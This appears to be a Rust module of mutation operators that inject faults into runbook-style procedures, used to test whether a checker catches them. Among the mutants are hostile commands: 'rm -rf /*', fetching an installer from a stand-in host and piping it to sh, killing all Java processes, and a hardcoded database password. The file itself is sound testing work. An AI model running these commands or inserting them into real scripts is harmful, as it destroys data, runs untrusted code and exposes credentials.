//! A command does more, less or something else than before.

use rulec::syntax::NodeId;

use super::{COMPONENTS, Operator, STEPS, everywhere, of_doers};
use crate::mutants::doc::{Doc, Edit};
use crate::mutants::{Mistake, Set};

pub(super) static ALL: &[Operator] = &[
    // `exit 1` leaves the whole script, whatever stands behind it.
    ("a command can't fail: `|| true`", |set| {
        change(set, &commands(), |text| (!text.contains("exit 1")).then(|| format!("{text} || true")))
    }),
    ("a command can't fail: `; true`", |set| {
        change(set, &commands(), |text| (!text.contains("exit 1")).then(|| format!("{text}; true")))
    }),
    ("a check can't fail: `|| true`", |set| change(set, &checks(), |text| Some(format!("{text} || true")))),
    ("a check is `true`", |set| change(set, &checks(), |_| Some("true".to_owned()))),
    ("a check is an echo", |set| change(set, &checks(), |_| Some("echo all is well".to_owned()))),
    ("`curl` takes a page of errors for an answer", |set| {
        change(set, &checks(), |text| text.contains("--fail ").then(|| text.replace("--fail ", "")))
    }),
    // A step or poll that has a timeout of its own ends without that of `curl`.
    ("`curl` waits for ever", |set| {
        let mut patterns = of_doers("verify/command");
        patterns.push(format!("{COMPONENTS}/health/check"));
        everywhere(set, &patterns.iter().map(String::as_str).collect::<Vec<_>>(), |doc, node| {
            let text = doc.value(node);
            let timeout = doc.get(doc.above(node, 1), "timeout");
            if !text.contains("--max-time 3 ") {
                return Vec::new();
            }
            let mut edits = timeout.map_or_else(Vec::new, |timeout| doc.remove(timeout));
            edits.extend(doc.replace_text(node, &text.replace("--max-time 3 ", "")));
            edits
        })
    }),
    ("a variable is deleted that may be unset", |set| {
        change(set, &commands(), |text| Some(format!("rm -rf \"$SCRATCH/\" && {text}")))
    }),
    ("everything is deleted", |set| change(set, &commands(), |text| Some(format!("rm -rf /* && {text}")))),
    ("all processes of a name are killed", |set| {
        change(set, &commands(), |text| Some(format!("pkill -f java; {text}")))
    }),
    ("a program is fetched and run", |set| {
        change(set, &commands(), |text| {
            Some(format!("curl --fail https://get.bakery.test/install | sh && {text}"))
        })
    }),
    ("a quote is not closed", |set| change(set, &commands(), |text| Some(format!("{text} \"")))),
    ("a command goes on in the background", |set| change(set, &commands(), |text| Some(format!("{text} &")))),
    ("a command waits for somebody", |set| {
        change(set, &commands(), |text| Some(format!("{text} && vi notes.txt")))
    }),
    ("a command never ends", |set| {
        change(set, &commands(), |text| Some(format!("{text} && tail -f service.log")))
    }),
    ("a command asks for `bash` under `sh`", |set| {
        change(set, &commands(), |text| Some(format!("[[ -n $HOME ]] && {text}")))
    }),
    // One name of the day is what one may want; made twice, it is two around midnight.
    ("a command and its way back each ask for the day", |set| {
        everywhere(set, &[STEPS], |doc, node| {
            let (Some(command), Some(undo)) = (doc.get(node, "command"), doc.get(node, "undo")) else {
                return Vec::new();
            };
            let mut edits = doc.replace_text(
                command,
                &format!("{} && cp log.txt \"log-$(date +%F).txt\"", doc.value(command)),
            );
            edits.extend(
                doc.replace_text(undo, &format!("{}; rm -f \"log-$(date +%F).txt\"", doc.value(undo))),
            );
            edits
        })
    }),
    ("a password is written down", |set| {
        change(set, &commands(), |text| Some(format!("PGPASSWORD=k8Zq2vN7wLp4 psql -c 'select 1' && {text}")))
    }),
    ("a placeholder is left in", |set| {
        change(set, &commands(), |text| {
            Some(format!("git clone https://github.com/your-org/tools && {text}"))
        })
    }),
    ("a command that is repeated makes a folder", |set| {
        everywhere(set, &[&format!("{STEPS}/command")], |doc, node| {
            match doc.get(doc.above(node, 1), "retry") {
                Some(_) => doc.replace_text(node, &format!("mkdir scratch && {}", doc.value(node))),
                None => Vec::new(),
            }
        })
    }),
    ("an invisible character is in a command", |set| {
        change(set, &commands(), |text| Some(format!("{text}\u{200b}")))
    }),
    ("a command is empty", |set| change(set, &commands(), |_| Some(String::new()))),
    ("a way back can't fail", |set| {
        everywhere(set, &[&format!("{COMPONENTS}/actions/*/undo"), &format!("{STEPS}/undo")], |doc, node| {
            doc.replace_text(node, &format!("{} || true", doc.value(node)))
        })
    }),
    ("a way back does nothing", |set| {
        everywhere(set, &[&format!("{COMPONENTS}/actions/*/undo"), &format!("{STEPS}/undo")], |doc, node| {
            doc.replace_text(node, "true")
        })
    }),
    ("a way back starts what it should stop", |set| {
        everywhere(
            set,
            &[&format!("{COMPONENTS}/actions/*/undo"), &format!("{COMPONENTS}/actions/stop/command")],
            |doc, node| {
                let text = doc.value(node);
                if text.contains(" stop ") {
                    doc.replace_text(node, &text.replace(" stop ", " start "))
                } else {
                    Vec::new()
                }
            },
        )
    }),
    ("a verification asks for a file that nothing makes", |set| {
        everywhere(set, &[&format!("{STEPS}/verify/command")], |doc, node| {
            match doc.value(node).strip_prefix("test -s ") {
                Some(_) => doc.replace_text(node, "test -s elsewhere/never.txt"),
                None => Vec::new(),
            }
        })
    }),
    ("an input is misspelt in a command", |set| {
        everywhere(
            set,
            &[&format!("{STEPS}/command"), &format!("{STEPS}/undo"), &format!("{STEPS}/verify/command")],
            |doc, node| {
                let names = doc.select("procedures/*/inputs/*/name");
                let used = names
                    .into_iter()
                    .map(|it| format!("${}", doc.value(it)))
                    .find(|name| doc.value(node).contains(name.as_str()));
                used.map_or_else(Vec::new, |name| {
                    doc.replace_text(node, &doc.value(node).replace(&name, &format!("{name}e")))
                })
            },
        )
    }),
];

fn commands() -> Vec<String> {
    of_doers("command")
}

fn checks() -> Vec<String> {
    let mut all = of_doers("verify/command");
    all.extend([format!("{COMPONENTS}/health/check"), "procedures/*/preconditions/*/check".to_owned()]);
    all.extend([
        "checklists/*/*/check".to_owned(),
        "monitors/*/check".to_owned(),
        "goals/*/success_criteria/*/check".to_owned(),
    ]);
    all
}

/// Writes another command in the place of one.
fn change(set: &Set, patterns: &[String], to: impl Fn(&str) -> Option<String>) -> Vec<Mistake> {
    let edit = |doc: &Doc, node: NodeId| -> Vec<Edit> {
        to(doc.value(node).trim_end()).map_or_else(Vec::new, |text| doc.replace_text(node, &text))
    };
    everywhere(set, &patterns.iter().map(String::as_str).collect::<Vec<_>>(), edit)
}
